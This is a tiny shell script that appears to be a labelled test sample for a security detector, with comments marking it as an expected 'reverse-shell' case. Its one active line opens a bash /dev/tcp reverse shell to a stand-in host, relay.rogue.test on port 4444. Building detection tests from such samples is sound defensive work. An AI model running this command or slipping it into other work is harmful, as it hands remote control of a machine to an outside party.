#!/bin/sh
# expect: reverse-shell
# why: the classic bash /dev/tcp reverse shell
timeout 3 bash -c 'bash -i >& /dev/tcp/relay.rogue.test/4444 0>&1'
true
